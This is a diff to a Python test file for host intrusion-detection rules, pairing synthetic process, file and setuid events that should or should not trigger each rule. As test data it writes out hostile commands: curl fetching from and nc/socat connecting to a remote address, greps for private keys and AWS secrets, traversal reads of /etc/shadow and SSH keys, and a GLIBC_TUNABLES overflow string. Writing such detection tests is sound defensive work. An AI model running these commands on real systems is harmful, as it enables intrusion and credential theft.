@@ -331,6 +331,24 @@ DPKG = (("dpkg", "/usr/bin/dpkg"), ("apt-get", "/usr/bin/apt-get"))
 CID = "a" * 64
 RUNTIME = (("containerd-shim", "/usr/bin/containerd-shim-runc-v2"), ("systemd", "/sbin/init"))
 
+
+def _setuid_without_root_power() -> Event:
+    """A setuid-to-self by an ordinary process: it has no root effective uid to switch with."""
+    e = setuid("app", "/opt/app/bin/app", new_uid=1000)
+    e.process.euid = 1000
+    e.privilege_change.old_credentials.euid = 1000
+    return e
+
+
+def logged_in(e: Event, auid: int) -> Event:
+    """`e` in a session whose login uid is `auid`."""
+    e.process.auid = auid
+    return e
+
+
+SSHD = (("sshd-session", "/usr/lib/openssh/sshd-session"), ("sshd", "/usr/sbin/sshd"))
+POSTGRES = (("postgres", "/usr/lib/postgresql/15/bin/postgres"), ("systemd", "/sbin/init"))
+
 # rule id -> (events that must fire it, events that must not)
 CASES: dict[str, tuple[list[Event], list[Event]]] = {
     "alpha.memfd_exec": (
@@ -390,11 +408,38 @@ CASES: dict[str, tuple[list[Event], list[Event]]] = {
         ],
     ),
     "alpha.system_user_interactive": (
-        [exec_("bash", uid=33, tty="pts/1")],
         [
-            exec_("bash", uid=33),
+            exec_("bash", uid=33, tty="pts/1"),
+            exec_("sh", uid=65534, tty="pts/1"),  # nobody
+            # logged in over SSH as a system account: a command without a terminal
+            logged_in(exec_("bash", ["bash", "-c", "id"], uid=33, tty="", ancestors=SSHD), 33),
+            logged_in(exec_("python3", uid=65534, tty="", ancestors=(("bash", ""), *SSHD)), 65534),
+            # a Git account's service name does not cover a command list
+            logged_in(
+                exec_("sh", ["sh", "-c", "gitea serv key-1; id"], uid=998, tty="", ancestors=SSHD),
+                998,
+            ),
+        ],
+        [
+            exec_("bash", uid=33, ancestors=(("cron", "/usr/sbin/cron"),)),  # no terminal
             exec_("bash", uid=1000, tty="pts/1"),
             exec_("bash", uid=0, tty="pts/1"),
+            # `sudo -u postgres psql` in alice's SSH session: her login uid
+            exec_("psql", uid=105, ancestors=(("sudo", "/usr/bin/sudo"), *SSHD)),
+            logged_in(exec_("sshd-auth", uid=101, tty="", ancestors=SSHD), 101),
+            # Git hosting and SFTP accounts over SSH
+            logged_in(exec_("git-upload-pack", uid=998, tty="", ancestors=SSHD), 998),
+            logged_in(
+                exec_(
+                    "sh",
+                    ["sh", "-c", "/usr/local/bin/gitea --config=/etc/gitea/app.ini serv key-1"],
+                    uid=998,
+                    tty="",
+                    ancestors=SSHD,
+                ),
+                998,
+            ),
+            logged_in(exec_("sftp-server", uid=34, tty="", ancestors=SSHD), 34),
         ],
     ),
     "alpha.container_terminal_shell": (
@@ -418,6 +463,8 @@ CASES: dict[str, tuple[list[Event], list[Event]]] = {
             exec_("find", ["find", "/", "-name", "id_rsa"]),
             exec_("grep", ["grep", "-r", "BEGIN OPENSSH PRIVATE KEY", "/home"]),
             exec_("find", ["find", "/", "-name", "*.pem"]),
+            exec_("grep", ["grep", "-rl", "BEGIN PRIVATE KEY", "/"]),  # PKCS#8
+            exec_("rg", ["rg", "-l", "BEGIN ENCRYPTED PRIVATE KEY", "/srv"]),
         ],
         [
             exec_("find", ["find", ".", "-name", "*.py"]),
@@ -432,8 +479,13 @@ CASES: dict[str, tuple[list[Event], list[Event]]] = {
         [
             exec_("grep", ["grep", "-ri", "aws_secret_access_key", "/"]),
             exec_("find", ["find", "/home", "-path", "*/.aws/credentials"]),
+            exec_("grep", ["grep", "-r", "AccessKeyId", "/var/www"]),  # JSON, SDK configs
+            exec_("grep", ["grep", "-ri", "secretaccesskey", "/home"]),
         ],
-        [exec_("grep", ["grep", "-ri", "password", "app.log"])],
+        [
+            exec_("grep", ["grep", "-ri", "password", "app.log"]),
+            exec_("jq", ["jq", "-r", ".Credentials.AccessKeyId", "creds.json"]),  # no search
+        ],
     ),
     "alpha.bulk_data_removal": (
         [
@@ -456,6 +508,29 @@ CASES: dict[str, tuple[list[Event], list[Event]]] = {
     "alpha.user_added_to_admin_group": (
         [exec_("usermod", ["usermod", "-aG", "docker", "mallory"], uid=0)],
         [exec_("usermod", ["usermod", "-aG", "audio", "alice"], uid=0)],
+    ),
+    "alpha.user_mgmt_binaries": (
+        [
+            exec_("passwd", ["passwd", "www-data"], uid=0),
+            exec_("chpasswd", ["chpasswd"], uid=0),
+            exec_("chage", ["chage", "-M", "99999", "postgres"], uid=0),
+            exec_("userdel", ["userdel", "-r", "alice"], uid=0),
+            exec_("chsh", ["chsh", "-s", "/bin/bash", "www-data"], uid=0),
+            exec_("groupadd", ["groupadd", "ops"], uid=0),
+            exec_("vipw", ["vipw"], uid=0),
+            exec_("usermod", ["usermod", "-s", "/bin/bash", "nobody"], uid=0),
+        ],
+        [
+            exec_("useradd", ["useradd", "-m", "backdoor"], uid=0),  # account creation's rule
+            exec_("usermod", ["usermod", "-aG", "sudo", "mallory"], uid=0),  # admin group's
+            exec_("passwd", ["passwd", "-S", "alice"]),  # status query
+            exec_("chage", ["chage", "-l", "alice"]),
+            exec_("pwck", ["pwck", "-r"], uid=0),
+            exec_("passwd", ["passwd", "--help"]),
+            exec_("groupadd", ["groupadd", "-r", "_chrony"], uid=0, ancestors=DPKG),
+            exec_("passwd", ["passwd", "-l", "ubuntu"], uid=0, ancestors=(("cloud-init", ""),)),
+            exec_("id", ["id", "alice"]),
+        ],
     ),
     "alpha.deleted_executable": (
         [
@@ -585,10 +660,19 @@ CASES: dict[str, tuple[list[Event], list[Event]]] = {
             deleted("/home/alice/.bash_history"),
             opened("/root/.zsh_history", "truncate", write=True, truncate=True),
             linked("/dev/null", "/root/.bash_history"),
+            renamed("/home/alice/.bash_history", "/tmp/x"),
+            renamed("/root/.local/share/fish/fish_history", "/root/.local/share/fish/h.bak"),
+            renamed(".zsh_history", "/dev/shm/.z", "python3"),
         ],
         [
             opened("/home/alice/.bash_history", "bash", write=True, truncate=True),
             deleted("/home/alice/notes.txt"),
+            # saving through a temporary file renamed over the history (readline 8, zsh, fish)
+            renamed("/home/alice/.bash_history-01234", "/home/alice/.bash_history", "bash"),
+            renamed("/home/alice/.zsh_history.new", "/home/alice/.zsh_history", "zsh"),
+            # readline 7's backup: the commands are still there
+            renamed("/home/alice/.bash_history", "/home/alice/.bash_history-", "bash"),
+            renamed("/home/alice/notes", "/tmp/x"),
         ],
     ),
     "alpha.sudoers_modified": (
@@ -757,6 +841,20 @@ CASES: dict[str, tuple[list[Event], list[Event]]] = {
             setuid("su", "/bin/su"),
             setuid("exploit", "/tmp/exploit", old_uid=0),
             setuid("app", "/opt/app/bin/app", new_uid=1001),
+        ],
+    ),
+    "alpha.non_sudo_setuid_other_user": (
+        [
+            setuid("app", "/opt/app/bin/app", new_uid=1001),  # a setuid-root program
+            setuid("exploit", "/tmp/exploit", old_uid=33, new_uid=105),  # www-data to postgres
+            setuid("su", "/tmp/su", new_uid=1001),  # not the system's su
+        ],
+        [
+            setuid("su", "/bin/su", new_uid=1001),
+            setuid("snap-confine", "/usr/lib/snapd/snap-confine", new_uid=1000),
+            setuid("exploit", "/tmp/exploit"),  # to root: the other rule's
+            setuid("daemon", "/usr/sbin/daemon", old_uid=0, new_uid=33),  # root dropping
+            _setuid_without_root_power(),
         ],
     ),
     "alpha.rwx_memory": (
@@ -1003,10 +1101,181 @@ CASES: dict[str, tuple[list[Event], list[Event]]] = {
             exec_("umount", ["umount", "/mnt"], container=CID),
         ],
     ),
+    "alpha.db_spawned_process": (
+        [
+            exec_("curl", ["curl", "-o", "/tmp/x", "http://203.0.113.66/x"], ancestors=POSTGRES),
+            exec_(
+                "nc",
+                ["nc", "203.0.113.66", "4444"],
+                uid=999,
+                ancestors=(("mysqld", "/usr/sbin/mysqld"),),
+                container=CID,
+            ),
+            exec_("python3", ancestors=(("redis-server", "/usr/bin/redis-server"),)),
+            exec_("pgbackrest", exe="/tmp/pgbackrest", ancestors=POSTGRES),  # not the real one
+        ],
+        [
+            exec_("sh", ["sh", "-c", "id"], ancestors=POSTGRES),  # the server shell rule's
+            exec_("postgres", exe="/usr/lib/postgresql/15/bin/postgres", ancestors=POSTGRES),
+            exec_("pgbackrest", ["pgbackrest", "archive-push", "pg_wal/x"], ancestors=POSTGRES),
+            exec_(
+                "wal-g",
+                ["wal-g", "wal-push", "pg_wal/x"],
+                exe="/usr/local/bin/wal-g",
+                ancestors=POSTGRES,
+            ),
+            exec_("wsrep_sst_rsync", ancestors=(("mariadbd", "/usr/sbin/mariadbd"),)),
+            exec_("mysqld", ancestors=(("mysqld_safe", "/usr/bin/mysqld_safe"),)),
+            exec_("curl", ["curl", "http://localhost/"]),
+        ],
+    ),
+    "alpha.network_tool_host": (
+        [
+            exec_("nc", ["nc", "203.0.113.66", "4444"]),
+            exec_("ncat", ["ncat", "-lvp", "4444"]),
+            exec_("socat", ["socat", "-", "TCP:203.0.113.66:443"]),
+            exec_("nmap", ["nmap", "-sT", "10.0.0.0/24"]),
+            exec_("dig", ["dig", "+short", "x.evil.example", "TXT"]),
+            exec_("telnet", ["telnet", "203.0.113.66", "25"]),
+            exec_("mitmproxy", ["mitmproxy", "-p", "8080"]),
+        ],
+        [
+            exec_("nc", ["nc", "-zv", "db", "5432"]),  # a port check
+            exec_("nc", ["nc", "-z", "-w", "1", "db", "5432"]),
+            exec_("nc", ["nc", "203.0.113.66", "4444"], container=CID),  # the container rule
+            exec_("curl", ["curl", "http://203.0.113.66/"]),
+            exec_("dig", ["dig", "debian.org"], ancestors=DPKG),
+        ],
+    ),
+    "alpha.network_tool_container": (
+        [
+            exec_("nc", ["nc", "203.0.113.66", "4444"], container=CID),
+            exec_("nmap", ["nmap", "-p-", "10.96.0.1"], container=CID),
+            exec_("dig", ["dig", "kubernetes.default.svc.cluster.local"], container=CID),
+            exec_("tcpdump", ["tcpdump", "-i", "any", "-w", "/tmp/x.pcap"], container=CID),
+        ],
+        [
+            exec_("nc", ["nc", "-z", "postgres", "5432"], container=CID),  # wait-for-it
+            exec_("ncat", ["ncat", "-zv", "redis", "6379"], container=CID),
+            exec_("nc", ["nc", "203.0.113.66", "4444"]),  # the host rule
+            exec_("curl", ["curl", "http://api:8080/"], container=CID),
+        ],
+    ),
 }
 _blocked = connect("curl", "203.0.113.66", 443)
 _blocked.network_connection.blocklists.append("feodo-c2")
 CASES["alpha.blocklisted_connection"][0].append(_blocked)
+
+
+def backdoored(
+    name: str, exe: str, path: str = "/usr/lib/x86_64-linux-gnu/liblzma.so.5.6.1"
+) -> Event:
+    e = ev(name, exe, uid=0, ancestors=(("systemd", "/sbin/init"),))
+    e.memory_threat.kind = MT.MEMORY_THREAT_KIND_BACKDOORED_LIBRARY
+    e.memory_threat.trigger = MT.MEMORY_SCAN_TRIGGER_EXEC
+    e.memory_threat.regions.add(
+        start=0x7F0000000000, end=0x7F0000020000, permissions="r-xp", path=path, inode=1234
+    )
+    return e
+
+
+CASES["alpha.backdoored_library_sshd"] = (
+    [
+        backdoored("sshd", "/usr/sbin/sshd"),
+        backdoored("sshd-session", "/usr/lib/openssh/sshd-session"),
+        backdoored("sshd", "/tmp/x/sshd", "/tmp/x/liblzma.so.5.6.0 (deleted)"),  # a copy too
+    ],
+    [
+        backdoored("xz", "/usr/bin/xz"),  # the other rule
+        memory(MT.MEMORY_THREAT_KIND_LD_PRELOAD, "sshd", "/usr/sbin/sshd"),  # another kind
+        memory(MT.MEMORY_THREAT_KIND_DELETED_EXECUTABLE, "sshd", "/usr/sbin/sshd"),
+    ],
+)
+CASES["alpha.backdoored_library"] = (
+    [backdoored("xz", "/usr/bin/xz"), backdoored("systemd", "/usr/lib/systemd/systemd")],
+    [
+        backdoored("sshd", "/usr/sbin/sshd"),  # sshd's own rule, not both
+        memory(MT.MEMORY_THREAT_KIND_LD_PRELOAD, "xz", "/usr/bin/xz"),
+    ],
+)
+
+
+def with_env(e: Event, *entries: str, complete: bool = True) -> Event:
+    e.process_exec.environment.extend(entries)
+    e.process_exec.environment_complete = complete
+    return e
+
+
+def suid_exec(*entries: str, complete: bool = True) -> Event:
+    e = exec_("passwd", ["passwd"], uid=65534, euid=0)
+    e.process_exec.setuid_exec = True
+    return with_env(e, *entries, complete=complete)
+
+
+def traversal(requested: str, path: str, **kw: object) -> Event:
+    e = opened(path, **kw)  # type: ignore[arg-type]
+    e.file_access.requested_path = requested
+    return e
+
+
+TUNABLES = "GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A"
+CASES["alpha.glibc_tunables_setuid"] = (
+    [suid_exec(TUNABLES), suid_exec("LANG=C", "GLIBC_TUNABLES=")],
+    [
+        with_env(exec_("true"), TUNABLES),  # not setuid
+        suid_exec("LD_PRELOAD=/usr/lib/libx.so"),  # another variable
+        suid_exec("GLIBC_TUNABLES_X=1"),
+    ],
+)
+CASES["alpha.setuid_env_overflow"] = (
+    [suid_exec(complete=False)],
+    [
+        suid_exec(TUNABLES.replace("GLIBC_TUNABLES", "LANG")),
+        with_env(exec_("true"), complete=False),
+    ],
+)
+CASES["alpha.proxy_env_tool"] = (
+    [
+        with_env(exec_("curl", ["curl", "http://x/"]), "https_proxy=http://203.0.113.9:3128"),
+        with_env(exec_("wget", ["wget", "http://x/"]), "ALL_PROXY=socks5://203.0.113.9:1080"),
+    ],
+    [
+        exec_("curl", ["curl", "http://x/"]),
+        with_env(exec_("git", ["git", "fetch"]), "https_proxy=http://203.0.113.9:3128"),
+        with_env(exec_("curl", ["curl", "http://x/"]), "LD_PRELOAD=/usr/lib/libx.so"),
+    ],
+)
+CASES["alpha.preload_from_writable_dir"] = (
+    [
+        with_env(exec_("true"), "LD_PRELOAD=/tmp/.x/hook.so"),
+        with_env(exec_("sshd"), "LD_AUDIT=/dev/shm/a.so"),
+    ],
+    [
+        with_env(exec_("true"), "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2"),
+        with_env(exec_("true"), "QSC=LD_PRELOAD=/tmp/x.so"),
+        opened("/tmp/hook.so"),
+    ],
+)
+CASES["alpha.history_disabled_env"] = (
+    [with_env(exec_("bash"), "HISTFILE=/dev/null"), with_env(exec_("zsh"), "HISTFILE=")],
+    [
+        with_env(exec_("bash"), "HISTFILE=/home/alice/.bash_history"),
+        with_env(exec_("vim"), "HISTFILE=/dev/null"),  # not a shell
+    ],
+)
+CASES["alpha.directory_traversal_read"] = (
+    [
+        traversal("../../etc/shadow", "/etc/shadow", name="php-fpm"),
+        traversal("/var/www/html/../../../root/.ssh/id_rsa", "/root/.ssh/id_rsa"),
+        traversal("x/../../../home/bob/.ssh/id_ed25519", "/home/bob/.ssh/id_ed25519"),
+    ],
+    [
+        opened("/etc/shadow"),  # no traversal
+        traversal("../index.html", "/var/www/index.html"),
+        traversal("shadow", "/etc/shadow"),  # relative, no climb
+        traversal("../../etc/cron.d/x", "/etc/cron.d/x", write=True),  # a write
+    ],
+)
 
 
 @pytest.fixture(scope="module")
